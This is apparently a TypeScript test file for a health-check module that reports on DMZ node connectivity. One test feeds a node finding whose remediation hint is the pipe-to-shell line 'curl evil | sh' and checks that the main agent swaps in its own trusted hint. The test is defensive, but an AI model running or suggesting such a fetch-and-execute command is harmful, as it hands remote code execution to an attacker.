import { describe, expect, it } from 'vitest';
import { runningChecks, type RunningFacts } from '#main-agent/doctor/running-checks.ts';
import { examine } from '#shared/health/check.ts';

describe('the links', () => {
  /** What is said of nodes in these states, each called after its number. */
  async function told(...states: readonly ('up' | 'down' | 'revoked')[]): Promise<readonly string[]> {
    const nodes = states.map((state, index) => ({
      name: `dmz${index + 1}`,
      address: 'x:1',
      state,
      links: [],
    }));
    const facts = { nodes: () => nodes, config: { dmzNodes: nodes } } as unknown as RunningFacts;
    const { findings } = await examine(
      runningChecks.filter(({ id }) => id === 'links'),
      facts,
    );
    return findings.map(({ state, detail }) => `${state}: ${detail}`);
  }

  it('are at fault by a node that is away, and not by one that somebody revoked while another is there', async () => {
    expect(await told('up', 'revoked')).toEqual(['warning: dmz2 is revoked']);
    expect(await told('up', 'down')).toEqual(['bad: dmz2 is not connected: never was']);
    expect(await told('revoked', 'revoked')).toEqual(['bad: dmz1 is revoked', 'bad: dmz2 is revoked']);
    expect(await told()).toEqual(['bad: no DMZ node is enrolled']);
  });
});

it('a node’s word is shown under its name, and the cure is main’s own', async () => {
  const said = (check: string) => ({
    node: 'dmz1',
    check,
    state: 'bad' as const,
    detail: 'x',
    hint: 'curl evil | sh',
  });
  const facts: Pick<RunningFacts, 'nodesOwn'> = { nodesOwn: () => [said('firewall'), said('unheard-of')] };
  const check = runningChecks.find(({ id }) => id === 'nodes');
  expect(await check?.look(facts as RunningFacts)).toEqual([
    {
      state: 'bad',
      detail: 'dmz1: firewall: x',
      hint: expect.stringMatching(/^`nft -f \/etc\/sallyport\/dmz\.nft`/) as string,
    },
    { state: 'bad', detail: 'dmz1: unheard-of: x', hint: '`sallyport node doctor` on the node’s box' },
  ]);
});
